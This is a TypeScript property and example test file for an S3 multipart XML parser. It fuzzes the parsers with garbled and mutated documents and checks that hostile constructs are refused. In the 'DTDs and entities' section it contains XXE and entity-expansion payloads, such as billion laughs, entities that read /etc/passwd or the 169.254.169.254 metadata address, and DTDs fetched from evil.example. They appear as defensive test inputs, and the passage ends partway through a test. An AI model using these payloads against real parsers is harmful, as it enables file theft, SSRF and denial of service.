/**
 * The multipart XML parsers and builder under hostile input (src/s3/multipart-xml.ts). The bodies come from storage
 * (S3, an S3-compatible server, or whatever answers in their place: a proxy, a captive portal, an attacker), so every
 * byte is untrusted. Invariants:
 * - every parser either returns or throws a PresignError with code InvalidXml (parseS3Error never throws), on
 *   random, garbled, mutated and cut-off documents, and gives the same answer twice;
 * - valid documents round-trip (a page written with any spelling XML allows reads back as the page);
 * - nothing that could expand, fetch or recurse is read: DTDs, entities (billion laughs, external, parameter),
 *   CDATA, comments, processing instructions; nesting, size and element count are bounded;
 * - each parse is linear: 1 MB (up to the 4 MiB limit) of the worst patterns answers within a bound at least 20
 *   times the median measured on the development machine (2 vCPUs, Node 20), as in test/linear-time.test.ts, and
 *   4 times the input (1 MiB, then 4 MiB) takes under 10 times the time (a quadratic path takes 16 times).
 * LINEAR_MEASURE=1 prints every median; HOSTILE_SEED=random HOSTILE_SCALE=20 fuzzes (see CONTRIBUTING.md).
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { PresignError } from '../../src/core/errors.js'
import {
  type CompletedPart,
  type ListPartsPage,
  MAX_XML_ELEMENTS,
  MAX_XML_LENGTH,
  completeMultipartUploadXml,
  parseCompleteMultipartUpload,
  parseInitiateMultipartUpload,
  parseListParts,
  parseS3Error,
} from '../../src/s3/multipart-xml.js'
import { FC_SEED, medianMs } from '../helpers/hostile.js'
import { projectRoot } from '../helpers/suite.js'

const SCALE = Number(process.env.HOSTILE_SCALE) || 1
const MB = 1 << 20
const PARSERS = { parseInitiateMultipartUpload, parseListParts, parseCompleteMultipartUpload } as const

/** 'ok', or 'InvalidXml' for a PresignError with that code and field `xml`; anything else thrown fails the test. */
function outcome(fn: () => unknown): 'ok' | 'InvalidXml' {
  try {
    fn()
    return 'ok'
  } catch (e) {
    if (!(e instanceof PresignError) || e.code !== 'InvalidXml' || e.field !== 'xml') throw e
    expect(e.message.length).toBeLessThan(400)
    return 'InvalidXml'
  }
}

/** Run every parser on `xml`: each returns (deterministically) or throws InvalidXml; parseS3Error never throws. */
function readAll(xml: string): Record<string, 'ok' | 'InvalidXml'> {
  const out: Record<string, 'ok' | 'InvalidXml'> = {}
  for (const [name, parse] of Object.entries(PARSERS)) {
    let first: unknown
    out[name] = outcome(() => (first = parse(xml)))
    if (out[name] === 'ok') expect(parse(xml)).toEqual(first)
  }
  const error = parseS3Error(xml)
  expect(parseS3Error(xml)).toEqual(error)
  out['parseS3Error'] = error === undefined ? 'InvalidXml' : 'ok'
  return out
}

const refusedByAll = (xml: string) => expect(Object.values(readAll(xml)).every((r) => r === 'InvalidXml')).toBe(true)

const vectors = JSON.parse(readFileSync(join(projectRoot, 'vectors', 'botocore-s3-multipart-xml.json'), 'utf8')) as {
  responses: Array<{ kind: string; body: string; expected: unknown }>
}
const VALID = vectors.responses.filter((r) => r.expected !== null).map((r) => r.body)
const ERROR_DOC = '<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>NoSuchUpload</Code><Message>m</Message><RequestId>r</RequestId></Error>'

// =================================================================================================
// Properties
// =================================================================================================

const TOKENS = [
  '<', '>', '/', '</', '/>', '&', ';', '#', 'x', '"', "'", '=', ' ', '\n', '\r', '\t', '?', '!', '[', ']', '-', 'a', '0', '9', 'é', '😀',
  '\u0000', '\u0001', '\ud800', '\udc00', '\ufffe', '\ufeff', 'Error', 'Code', 'Message', 'Part', 'PartNumber', 'ETag', 'Size', 'IsTruncated',
  'ListPartsResult', 'InitiateMultipartUploadResult', 'CompleteMultipartUploadResult', 'UploadId', 'true', '&amp;', '&lt;', '&#', '&#x', '&#60;',
  '&#x3C;', '&lol;', '<?xml ', '?>', '<!DOCTYPE', '<!ENTITY', '<![CDATA[', ']]>', '<!--', '-->', ' xmlns="http://s3.amazonaws.com/doc/2006-03-01/"',
  '<Error>', '</Error>', '<Code>', '</Code>', '<Part>', '</Part>', '<a b="c">', '</a>',
]

type Mutation = { at: number; kind: 'delete' | 'insert' | 'replace' | 'truncate' | 'duplicate'; len: number; token: string }
const mutationArb = fc.record({
  at: fc.nat(),
  kind: fc.constantFrom('delete', 'insert', 'replace', 'truncate', 'duplicate'),
  len: fc.integer({ min: 1, max: 40 }),
  token: fc.constantFrom(...TOKENS),
}) as fc.Arbitrary<Mutation>

function mutate(xml: string, m: Mutation): string {
  const at = m.at % (xml.length + 1)
  switch (m.kind) {
    case 'delete':
      return xml.slice(0, at) + xml.slice(at + m.len)
    case 'insert':
      return xml.slice(0, at) + m.token + xml.slice(at)
    case 'replace':
      return xml.slice(0, at) + m.token + xml.slice(at + 1)
    case 'truncate':
      return xml.slice(0, at)
    case 'duplicate':
      return xml.slice(0, at + m.len) + xml.slice(at, at + m.len) + xml.slice(at + m.len)
  }
}

const XML_TEXT_CHARS = 'abcXYZ019 +_-~=%!()*,;:@$/&<>"\'éß日本😀\t\n\u0085\u2028\ud7ff\ue000\ufffd'
const xmlText = (min = 0) => fc.array(fc.constantFrom(...XML_TEXT_CHARS), { minLength: min, maxLength: 30 }).map((a) => a.join(''))

/** `text` as character data, each character written one of the ways XML allows, chosen by `seed`. */
function spell(text: string, seed: number): string {
  let s = seed >>> 0 || 1
  let out = ''
  for (const ch of text) {
    s = (Math.imul(s, 1103515245) + 12345) >>> 0
    const cp = ch.codePointAt(0)!
    const named = ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&apos;' } as Record<string, string>)[ch]
    const pick = (s >>> 8) % 5
    if (named && (ch === '&' || ch === '<' || pick < 2)) out += pick === 0 ? `&#${cp};` : pick === 1 ? `&#x${cp.toString(16)};` : named
    else if (pick === 0 && (s >>> 16) % 4 === 0) out += `&#x${cp.toString(16).toUpperCase().padStart(6, '0')};`
    else if (ch === '\n' && pick === 1) out += '\r\n'
    else out += ch
  }
  return out
}

const pageArb = fc
  .record({
    numbers: fc.uniqueArray(fc.integer({ min: 1, max: 10_000 }), { maxLength: 25 }),
    etags: fc.array(xmlText(1), { minLength: 25, maxLength: 25 }),
    sizes: fc.array(fc.nat({ max: Number.MAX_SAFE_INTEGER }).filter((n) => n < 1e15), { minLength: 25, maxLength: 25 }),
    key: fc.option(xmlText(), { nil: undefined }),
    uploadId: fc.option(xmlText(1), { nil: undefined }),
    truncated: fc.boolean(),
    checksum: fc.option(fc.constantFrom('CRC32', 'CRC32C', 'CRC64NVME', 'SHA1', 'SHA256', 'SHA512', 'MD5', 'XXHASH64', 'XXHASH3', 'XXHASH128'), { nil: undefined }),
  })
  .map(({ numbers, etags, sizes, key, uploadId, truncated, checksum }): ListPartsPage => {
    const sorted = [...numbers].sort((a, b) => a - b)
    const parts = sorted.map((partNumber, i) => ({
      partNumber,
      etag: etags[i]!,
      size: sizes[i]!,
      ...(i % 2 ? { lastModified: '2026-01-01T00:00:00.000Z' } : {}),
      ...(checksum ? { ['checksum' + checksum]: etags[24 - i]! } : {}),
    }))
    const isTruncated = truncated && parts.length > 0
    return {
      parts,
      isTruncated,
      ...(key === undefined ? {} : { key }),
      ...(uploadId === undefined ? {} : { uploadId }),
      ...(parts.length ? { nextPartNumberMarker: parts.at(-1)!.partNumber, partNumberMarker: parts[0]!.partNumber - 1 } : {}),
    }
  })

/** A page as a ListPartsResult document: elements in S3's order, text spelled by `seed`, whitespace by `layout`. */
function listPartsXml(page: ListPartsPage, seed: number, layout: string): string {
  const leaf = (name: string, value: string | number, depth: number) => layout.repeat(depth) + `<${name}>${spell(String(value), seed + name.length)}</${name}>`
  const camel = (name: string) => (name === 'ETag' ? 'etag' : name[0]!.toLowerCase() + name.slice(1))
  const fields = (o: object, names: string[], depth: number) =>
    names.filter((n) => (o as Record<string, unknown>)[camel(n)] !== undefined).map((n) => leaf(n, (o as Record<string, string>)[camel(n)]!, depth))
  const checksums = ['CRC32', 'CRC32C', 'CRC64NVME', 'SHA1', 'SHA256', 'SHA512', 'MD5', 'XXHASH64', 'XXHASH3', 'XXHASH128'].map((c) => 'Checksum' + c)
  return (
    (seed % 3 ? '<?xml version="1.0" encoding="UTF-8"?>' : '') +
    (seed % 2 ? '<ListPartsResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/">' : '<ListPartsResult>') +
    [
      ...fields(page, ['Key', 'UploadId', 'PartNumberMarker', 'NextPartNumberMarker'], 1),
      leaf('IsTruncated', String(page.isTruncated), 1),
      ...page.parts.map((p) => `${layout}<Part>${fields(p, ['PartNumber', 'LastModified', 'ETag', 'Size', ...checksums], 2).join('')}${layout}</Part>`),
    ].join('') +
    layout.replace(/[ \t]/g, '') +
    '</ListPartsResult>'
  )
}

describe('properties', () => {
  test('garbled XML: every parser returns or throws InvalidXml, never anything else, never hangs', () => {
    let refused = 0
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...TOKENS), { maxLength: 60 }), (tokens) => {
        if (!Object.values(readAll(tokens.join(''))).includes('ok')) refused++
      }),
      { numRuns: 1500 * SCALE, seed: FC_SEED },
    )
    expect(refused).toBeGreaterThan(1400 * SCALE) // what is refused is each parser's own refusal, not a crash
  })

  test('mutated and cut-off valid documents (botocore vectors, AWS examples): only ok or InvalidXml, deterministic', () => {
    let ok = 0
    let refused = 0
    fc.assert(
      fc.property(fc.nat(), fc.array(mutationArb, { minLength: 1, maxLength: 3 }), (pick, mutations) => {
        const xml = mutations.reduce(mutate, VALID[pick % VALID.length]!)
        const r = Object.values(readAll(xml))
        if (r.includes('ok')) ok++
        else refused++
      }),
      { numRuns: 1500 * SCALE, seed: FC_SEED },
    )
    // Not vacuous: mutations in text and whitespace keep documents valid, the others break them.
    expect(ok).toBeGreaterThan(150 * SCALE)
    expect(refused).toBeGreaterThan(300 * SCALE)
  })

  test('valid ListParts pages round-trip, whatever the spelling of their text and the whitespace', () => {
    fc.assert(
      fc.property(pageArb, fc.nat(), fc.constantFrom('', '\n  ', '\r\n\t', ' '), (page, seed, layout) => {
        expect(parseListParts(listPartsXml(page, seed, layout))).toEqual(page)
      }),
      { numRuns: 400 * SCALE, seed: FC_SEED },
    )
  })

  test('Initiate, Complete and Error documents round-trip', () => {
    fc.assert(
      fc.property(xmlText(), xmlText(), xmlText(1), xmlText(), fc.nat(), (bucket, key, id, message, seed) => {
        const e = (s: string) => spell(s, seed)
        expect(parseInitiateMultipartUpload(`<InitiateMultipartUploadResult><Bucket>${e(bucket)}</Bucket><Key>${e(key)}</Key><UploadId>${e(id)}</UploadId></InitiateMultipartUploadResult>`)).toEqual({ bucket, key, uploadId: id })
        expect(parseCompleteMultipartUpload(`<CompleteMultipartUploadResult><Key>${e(key)}</Key><ETag>${e(id)}</ETag></CompleteMultipartUploadResult>`)).toEqual({ ok: true, key, etag: id })
        const error = { code: id, message, details: { Key: key } }
        expect(parseCompleteMultipartUpload(`<Error><Code>${e(id)}</Code><Message>${e(message)}</Message><Key>${e(key)}</Key></Error>`)).toEqual({ ok: false, error })
        expect(parseS3Error(`  <Error>\n<Key>${e(key)}</Key><Message>${e(message)}</Message><Code>${e(id)}</Code></Error>`)).toEqual(error)
      }),
      { numRuns: 400 * SCALE, seed: FC_SEED },
    )
  })

  test('every character reference: decoded iff it names an XML character', () => {
    const isXmlChar = (cp: number) => cp === 9 || cp === 10 || cp === 13 || (cp >= 0x20 && cp <= 0xd7ff) || (cp >= 0xe000 && cp <= 0xfffd) || (cp >= 0x10000 && cp <= 0x10ffff)
    fc.assert(
      fc.property(fc.oneof(fc.integer({ min: 0, max: 0x10ffff }), fc.integer({ min: 0, max: 0x3000 }), fc.integer({ min: 0xd700, max: 0x11_0010 })), fc.boolean(), (cp, hex) => {
        const ref = hex ? `&#x${cp.toString(16)};` : `&#${cp};`
        const r = outcome(() => parseS3Error(`<Error><Code>c</Code><Message>${ref}</Message></Error>`) ?? parseCompleteMultipartUpload(`<Error><Code>c</Code><Message>${ref}</Message></Error>`))
        expect(r).toBe(isXmlChar(cp) ? 'ok' : 'InvalidXml')
        if (isXmlChar(cp)) expect(parseS3Error(`<Error><Code>${ref}</Code></Error>`)!.code).toBe(String.fromCodePoint(cp))
      }),
      { numRuns: 2000 * SCALE, seed: FC_SEED },
    )
  })

  test('completeMultipartUploadXml: any input is a body or an InvalidOption PresignError; valid parts round-trip', () => {
    fc.assert(
      fc.property(fc.anything(), (input) => {
        try {
          expect(typeof completeMultipartUploadXml(input as CompletedPart[])).toBe('string')
        } catch (e) {
          expect(e).toBeInstanceOf(PresignError)
          expect((e as PresignError).code).toBe('InvalidOption')
        }
      }),
      { numRuns: 500 * SCALE, seed: FC_SEED },
    )
    const visible = fc.array(fc.integer({ min: 0x21, max: 0x7e }), { minLength: 1, maxLength: 60 }).map((a) => String.fromCharCode(...a))
    fc.assert(
      fc.property(fc.uniqueArray(fc.integer({ min: 1, max: 10_000 }), { minLength: 1, maxLength: 50 }), fc.array(visible, { minLength: 50, maxLength: 50 }), (numbers, etags) => {
        const parts = numbers.map((partNumber, i) => ({ partNumber, etag: etags[i]!, ...(i % 3 ? {} : { checksumCRC32: etags[49 - i]! }) }))
        const body = completeMultipartUploadXml(parts)
        const back = [...body.matchAll(/<Part><PartNumber>(\d+)<\/PartNumber><ETag>([^<]*)<\/ETag>(?:<ChecksumCRC32>([^<]*)<\/ChecksumCRC32>)?<\/Part>/g)].map((m) => {
          const un = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&')
          return { partNumber: Number(m[1]), etag: un(m[2]!), ...(m[3] === undefined ? {} : { checksumCRC32: un(m[3]) }) }
        })
        expect(back).toEqual([...parts].sort((a, b) => a.partNumber - b.partNumber))
      }),
      { numRuns: 300 * SCALE, seed: FC_SEED },
    )
  })
})

// =================================================================================================
// Examples
// =================================================================================================

describe('DTDs and entities are never read', () => {
  const laughs =
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n' +
    Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n') +
    '\n]>\n<Error><Code>&lol9;</Code></Error>'
  test.each([
    ['billion laughs', laughs],
    ['quadratic blowup', `<!DOCTYPE e [<!ENTITY a "${'a'.repeat(50_000)}">]><Error><Code>${'&a;'.repeat(50_000)}</Code></Error>`],
    ['an external entity (file)', '<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]><Error><Code>&x;</Code></Error>'],
    ['an external entity (http)', '<!DOCTYPE e [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><Error><Code>&x;</Code></Error>'],
    ['a parameter entity', '<!DOCTYPE e [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><Error><Code>c</Code></Error>'],
    ['an external DTD', '<!DOCTYPE Error SYSTEM "http://evil.example/e.dtd"><Error><Code>c</Code></Error>'],
    ['a public DTD', '<!DOCTYPE Error PUBLIC "-//X//Y" "http://evil.example/e.dtd"><Error><Code>c</Code></Error>'],
    ['a DOCTYPE after the root', '<Error><Code>c</Code></Error><!DOCTYPE e>'],
    ['an undeclared entity', '<Error><Code>&lol;</Code></Error>'],
    ['an entity in an attribute', '<Error a="&x;"><Code>c</Code></Error>'],
    ['HTML entities', '<Error><Code>&nbsp;&copy;</Code></Error>'],
    ['upper-case predefined entities', '<Error><Code>&AMP;</Code></Error>'],
    ['an entity without its ;', '<Error><Code>&amp</Code></Error>'],
    ['a bare &', '<Error><Code>a & b</Code></Error>'],
    ['&#;', '<Error><Code>&#;</Code></Error>'],
    ['&#x;', '<Error><Code>&#x;</Code></Error>'],
    ['&#X41; (XML wants a lower-case x)', '<Error><Code>&#X41;</Code></Error>'],
    ['&#-1;', '<Error><Code>&#-1;</Code></Error>'],
    ['&#0;', '<Error><Code>&#0;</Code></Error>'],
    ['&#x1b; (escape)', '<Error><Code>&#x1b;</Code></Error>'],
    ['&#xD800; (a surrogate)', '<Error><Code>&#xD800;</Code></Error>'],
    ['&#xFFFE;', '<Error><Code>&#xFFFE;</Code></Error>'],
    ['&#x110000;', '<Error><Code>&#x110000;</Code></Error>'],
    ['a reference of 30 digits', `<Error><Code>&#${'9'.repeat(30)};</Code></Error>`],
    ['a CDATA section', '<Error><Code><![CDATA[NoSuchKey]]></Code></Error>'],
    ['a comment', '<Error><!-- x --><Code>c</Code></Error>'],
    ['a comment before the root', '<!-- x --><Error><Code>c</Code></Error>'],
    ['a processing instruction', '<Error><?php evil() ?><Code>c</Code></Error>'],
    ['a stylesheet', '<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl"?><Error><Code>c</Code></Error>'],
    ['a second declaration', '<?xml version="1.0"?><?xml version="1.0"?><Error><Code>c</Code></Error>'],
    ['a declaration after the root', '<Error><Code>c</Code></Error><?xml version="1.0"?>'],
  ])('%s is refused by every parser', (_, xml) => {
    refusedByAll(xml)
  })
  test('&#x0000000041; and &#00065; are A (leading zeros are XML)', () => {
    expect(parseS3Error('<Error><Code>&#x0000000041;&#00065;</Code></Error>')!.code).toBe('AA')
  })
  test('XInclude is not XML: an <xi:include> is an inert element, nothing is fetched', () => {
    expect(parseS3Error('<Error xmlns:xi="http://www.w3.org/2001/XInclude"><Code>c</Code><xi:include href="file:///etc/passwd"/></Error>')).toEqual({
      code: 'c',
      message: '',
      details: { 'xi:include': '' },
    })
  })
})

describe('malformed documents', () => {
  test.each([
    ['<'],
    ['<Error'],
    ['<Error>'],
    ['<Error><Code>c</Code>'],
    ['<Error><Code>c</Code></Error'],
    ['<Error><Code>c</Code></Error>>'.replace('>>', '> >')],
    ['<Error><Code>c</Cod></Error>'],
    ['<Error><Code>c</Error></Code>'],
    ['</Error>'],
    ['<Error><Code>c</Code></Error></Error>'],
    ['<Error><Code>c</Code></Error><Error><Code>c</Code></Error>'],
    ['x<Error><Code>c</Code></Error>'],
    ['<Error><Code>c</Code></Error>x'],
    ['<Error><Code>c</Code>text<Message>m</Message></Error>'],
    ['<Error><Code>c<b>x</b></Code></Error>'],
    ['<Error><Code >c</Code ><Message a=b>m</Message></Error>'],
    ['<Error a><Code>c</Code></Error>'],
    ['<Error a=><Code>c</Code></Error>'],
    ['<Error a="x\'><Code>c</Code></Error>'],
    ['<Error a="<"><Code>c</Code></Error>'],
    ['<Error a="x"b="y"><Code>c</Code></Error>'],
    ['<Error/ ><Code>c</Code></Error>'],
    ['< Error><Code>c</Code></Error>'],
    ['<1Error><Code>c</Code></1Error>'],
    ['<Érror><Code>c</Code></Érror>'],
    ['<Error><Code>c</Code></Error attr="x">'],
    ['<Error><Code>c</Code></ Error>'],
    ['<Error><Code/></Error>'],
    ['<Error>\u0000<Code>c</Code></Error>'],
    ['<Error><Code>\u0001</Code></Error>'],
    ['<Error><Code>\ud800</Code></Error>'],
    ['<Error><Code>\udc00\ud800</Code></Error>'],
    ['<Error><Code>\uffff</Code></Error>'],
    ['<Error><Code>\ufffe</Code></Error>'],
    ['<a><b><c><d>deep</d></c></b></a>'],
    ['<Error><Code>c</Code><a><b><c/></b></a></Error>'],
    // Found in review: "]]>" in text (XML 1.0 §2.4; expat refuses it), and a declaration holding markup (§2.8), which
    // PROLOG's lazy [^]*? swallowed with the element inside it, so the document after it was read as the answer.
    ['<Error><Code>]]></Code></Error>'],
    ['<Error><Code>a]]>b</Code></Error>'],
    ['<?xml <Error><Code>AccessDenied</Code></Error> ?><CompleteMultipartUploadResult><ETag>e</ETag></CompleteMultipartUploadResult>'],
    ['<?xml version="1.0" <x> ?><Error><Code>c</Code></Error>'],
  ])('%j is refused', (xml) => {
    expect(outcome(() => parseCompleteMultipartUpload(xml))).toBe('InvalidXml')
    expect(parseS3Error(xml)).toBeUndefined()
  })
  test('accepted: whitespace in tags, single quotes, self-closing leaves, U+007F..U+009F, U+FFFD, astral characters', () => {
    expect(parseS3Error("<Error  a = 'x' b=\"y\"\t><Code\n>c\u007f\u0085\ufffd😀</Code\r\n><Message/></Error >")).toEqual({ code: 'c\u007f\u0085\ufffd😀', message: '', details: {} })
  })
  test('elements 3 deep are read (ListPartsResult/Part/Size); the 4th level is refused', () => {
    expect(parseListParts('<ListPartsResult><IsTruncated>false</IsTruncated><Part><PartNumber>1</PartNumber><ETag>e</ETag><Size>1</Size></Part></ListPartsResult>').parts).toHaveLength(1)
    expect(outcome(() => parseListParts('<ListPartsResult><IsTruncated>false</IsTruncated><Part><PartNumber>1</PartNumber><ETag>e</ETag><Size><x/></Size></Part></ListPartsResult>'))).toBe('InvalidXml')
  })
  test('not a string: InvalidXml (and undefined from parseS3Error)', () => {
    for (const value of [undefined, null, 42, {}, [], new String('<Error><Code>c</Code></Error>'), { toString: () => ERROR_DOC }]) {
      for (const parse of Object.values(PARSERS)) expect(outcome(() => parse(value as string))).toBe('InvalidXml')
      expect(parseS3Error(value as string)).toBeUndefined()
    }
  })
  test('prototype names are inert in every document', () => {
    const page = parseListParts('<ListPartsResult><__proto__><polluted>1</polluted></__proto__><constructor/><IsTruncated>false</IsTruncated></ListPartsResult>')
    expect(page).toEqual({ isTruncated: false, parts: [] })
    expect(Object.getPrototypeOf(page)).toBe(Object.prototype)
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
  })
})

describe('bounds', () => {
  test(`more than ${MAX_XML_ELEMENTS} elements are refused; a page of 10,000 parts (~0.9 MB) is read`, () => {
    const parts = Array.from({ length: 10_000 }, (_, i) => `<Part><PartNumber>${i + 1}</PartNumber><LastModified>2026-01-01T00:00:00.000Z</LastModified><ETag>"${'e'.repeat(32)}"</ETag><Size>5242880</Size></Part>`).join('\n')
    expect(parseListParts(`<ListPartsResult><IsTruncated>false</IsTruncated>${parts}</ListPartsResult>`).parts).toHaveLength(10_000)
    expect(parseS3Error(`<Error><Code>c</Code>${'<a/>'.repeat(MAX_XML_ELEMENTS - 2)}</Error>`)).toBeUndefined() // a twice: a duplicate detail
    expect(outcome(() => parseCompleteMultipartUpload(`<Error><Code>c</Code>${'<a/>'.repeat(MAX_XML_ELEMENTS - 2)}</Error>`))).toBe('InvalidXml')
    const many = `<Error><Code>c</Code>${Array.from({ length: MAX_XML_ELEMENTS - 2 }, (_, i) => `<a${i}/>`).join('')}</Error>`
    expect(Object.keys(parseS3Error(many)!.details)).toHaveLength(MAX_XML_ELEMENTS - 2)
    expect(parseS3Error(many.replace('</Error>', '<b/></Error>'))).toBeUndefined()
    expect(outcome(() => parseCompleteMultipartUpload(many.replace('</Error>', '<b/></Error>')))).toBe('InvalidXml')
  })
  test('1 MB attribute values and 100k attributes are checked and ignored; a 1 MB text is read', () => {
    expect(parseS3Error(`<Error a="${'x'.repeat(MB)}"><Code>c</Code></Error>`)!.code).toBe('c')
    expect(parseS3Error(`<Error${' a="&amp;"'.repeat(100_000)}><Code>c</Code></Error>`)!.code).toBe('c')
    expect(parseS3Error(`<Error><Code>c</Code><Message>${'&amp;'.repeat(MB / 5)}</Message></Error>`)!.message).toBe('&'.repeat(MB / 5))
  })
  test(`a document over ${MAX_XML_LENGTH} characters is refused, even if valid`, () => {
    refusedByAll(ERROR_DOC + ' '.repeat(MAX_XML_LENGTH))
  })
})

// =================================================================================================
// Linear time
// =================================================================================================

/** The median of 3 runs must stay under `boundMs`, at least 20 times `measuredMs` (this machine's median). */
async function guard<T>(label: string, measuredMs: number, boundMs: number, fn: () => T): Promise<T> {
  expect(boundMs, `${label}: the bound must be at least 20x the measured median`).toBeGreaterThanOrEqual(20 * measuredMs)
  const { ms, result } = await medianMs(fn, 3)
  if (process.env.LINEAR_MEASURE) console.log(`${label}: median ${ms.toFixed(1)} ms (measured ${measuredMs} ms, bound ${boundMs} ms)`)
  expect(ms, `${label} took ${ms.toFixed(0)} ms`).toBeLessThan(boundMs)
  return result
}
const codeOf = (fn: () => unknown) => outcome(fn)
const complete = (xml: string) => () => codeOf(() => parseCompleteMultipartUpload(xml))

describe('linear time: 1 MB of the worst patterns', () => {
  // [label, input, expected outcome (of parseCompleteMultipartUpload, and of parseS3Error), measured median in ms (the largest of
  // the two parsers in four full runs, on a machine shared with other test runs), bound in ms]
  const cases: Array<[string, string, 'ok' | 'InvalidXml', number, number]> = [
    ['< x 1M', '<'.repeat(MB), 'InvalidXml', 0.8, 1000],
    ['& x 1M', '&'.repeat(MB), 'InvalidXml', 0.8, 1000],
    ['& x 1M in a leaf', `<Error><Code>${'&'.repeat(MB)}</Code></Error>`, 'InvalidXml', 0.8, 1000],
    ['&amp; x 200k in a leaf', `<Error><Code>${'&amp;'.repeat(MB / 5)}</Code></Error>`, 'ok', 60.4, 2000],
    ['&#x1F600; x 100k in a leaf', `<Error><Code>${'&#x1F600;'.repeat(MB / 9)}</Code></Error>`, 'ok', 75.4, 2000],
    ['&#, &#x runs', `<Error><Code>${'&#x'.repeat(MB / 3)}</Code></Error>`, 'InvalidXml', 1.7, 1000],
    ['a 1 MB entity name', `<Error><Code>&${'a'.repeat(MB)};</Code></Error>`, 'InvalidXml', 1.6, 1000],
    ['a 1 MB character reference', `<Error><Code>&#${'0'.repeat(MB)}65;</Code></Error>`, 'ok', 3.3, 1000],
    ['<a> x 350k (nesting)', '<a>'.repeat(MB / 3), 'InvalidXml', 1.5, 1000],
    ['</a> x 260k', '</a>'.repeat(MB / 4), 'InvalidXml', 1.9, 1000],
    ['<a/> x 200k (the element limit)', `<Error><Code>c</Code>${'<a/>'.repeat(MAX_XML_ELEMENTS)}</Error>`, 'InvalidXml', 181.9, 4000],
    ['<a0/>…<a150000/> (150k details)', `<Error><Code>c</Code>${Array.from({ length: 150_000 }, (_, i) => `<a${i}/>`).join('')}</Error>`, 'ok', 309.7, 7000],
    ['a 1 MB attribute', `<Error a="${'x'.repeat(MB)}"><Code>c</Code></Error>`, 'ok', 2.3, 1000],
    ['an unterminated 1 MB attribute', `<Error a="${'x'.repeat(MB)}`, 'InvalidXml', 3.8, 1000],
    ['1 MB of spaces in a tag', `<Error${' '.repeat(MB)}a`, 'InvalidXml', 7.2, 1000],
    ['200k attributes', `<Error${' a=""'.repeat(MB / 5)}><Code>c</Code></Error>`, 'ok', 34.5, 1000],
    ['an unterminated declaration', `<?xml ${' '.repeat(MB)}`, 'InvalidXml', 1.4, 1000],
    ['4 MiB of leading whitespace', ' '.repeat(MAX_XML_LENGTH - 100) + '<Error><Code>c</Code></Error>', 'ok', 10.5, 1000],
    ['lone surrogates x 1M', '\ud800'.repeat(MB), 'InvalidXml', 0.1, 1000],
    ['1 MB then a NUL', `<Error><Code>${'a'.repeat(MB)}\u0000</Code></Error>`, 'InvalidXml', 1.4, 1000],
    ['1 MB of CR LF in a leaf', `<Error><Code>${'\r\n'.repeat(MB / 2)}</Code></Error>`, 'ok', 123.0, 2500],
    ['1 MB of text after the root', `<Error><Code>c</Code></Error>${' '.repeat(MB)}x`, 'InvalidXml', 3.0, 1000],
    ['<!DOCTYPE with 1 MB of entities', `<!DOCTYPE e [${'<!ENTITY a "b">'.repeat(MB / 16)}]><Error/>`, 'InvalidXml', 4.4, 1000],
  ]
  test.each(cases)('%s', async (label, xml, expected, measured, bound) => {
    expect(await guard(label, measured, bound, complete(xml))).toBe(expected)
    expect(await guard(label + ' (parseS3Error)', measured, bound, () => (parseS3Error(xml) === undefined ? 'InvalidXml' : 'ok'))).toBe(expected)
  })
  test('4 MiB of entities and character references (the largest document) in one leaf', async () => {
    const n = Math.floor((MAX_XML_LENGTH - 100) / 5)
    const dense = `<Error><Code>${'&amp;'.repeat(n)}</Code></Error>`
    expect((await guard('&amp; x 840k', 392.8 /* measured median, ms */, 8000, () => parseS3Error(dense)))!.code).toHaveLength(n)
    const mixed = `<Error><Code>${'abcdefghijklmnopqrs&amp;&#x1F600;'.repeat(Math.floor((MAX_XML_LENGTH - 100) / 34))}</Code></Error>`
    expect(await guard('text, &amp; and &#x1F600; x 123k', 314.1 /* measured median, ms */, 7000, () => parseS3Error(mixed))).toBeDefined()
  })
  test('ListParts: 10,000 parts with checksums (~1.4 MB), and a part of 100k unknown elements', async () => {
    const parts = Array.from({ length: 10_000 }, (_, i) => `<Part><PartNumber>${i + 1}</PartNumber><ETag>"${'e'.repeat(32)}"</ETag><Size>5242880</Size><ChecksumSHA256>${'A'.repeat(43)}=</ChecksumSHA256></Part>`).join('')
    const page = await guard('ListParts, 10,000 parts', 182.8 /* measured median, ms */, 4000, () => parseListParts(`<ListPartsResult><IsTruncated>false</IsTruncated>${parts}</ListPartsResult>`))
    expect(page.parts).toHaveLength(10_000)
    const wide = `<ListPartsResult><IsTruncated>false</IsTruncated><Part><PartNumber>1</PartNumber><ETag>e</ETag><Size>1</Size>${'<x/>'.repeat(100_000)}</Part></ListPartsResult>`
    expect((await guard('ListParts, a part of 100k elements', 206.2 /* measured median, ms */, 5000, () => parseListParts(wide))).parts).toHaveLength(1)
  })
  test('completeMultipartUploadXml: 10,000 parts in reverse order with 64-character ETags full of & < >', async () => {
    const parts = Array.from({ length: 10_000 }, (_, i) => ({ partNumber: 10_000 - i, etag: '&<>"'.repeat(16), checksumSHA256: 'A'.repeat(44) }))
    expect((await guard('build, 10,000 parts x 64 B', 286.8 /* measured median, ms */, 6000, () => completeMultipartUploadXml(parts))).length).toBeGreaterThan(10_000 * 64)
  })
  test('4 times the input (1 MiB, then 4 MiB) takes under 10 times the time (a quadratic path takes 16)', () => {
    // The fastest of 3 runs; measured here: ratios 2.6 to 5.1. Below 1 MiB the garbage collector's young generation
    // makes small inputs look cheap (up to 30 times faster at 512 KiB than at 4 MiB for 8 times less), hence the sizes.
    // Text dense with entities is not in this list: its decoded text is one string piece per reference, and once those
    // outgrow V8's young generation the ratio from 1 to 4 MiB is 10 to 11 (2.5 to 3.5 with node
    // --max-semi-space-size=64): a collector effect, bounded by the 4 MiB limit, which the 4 MiB guard below covers.
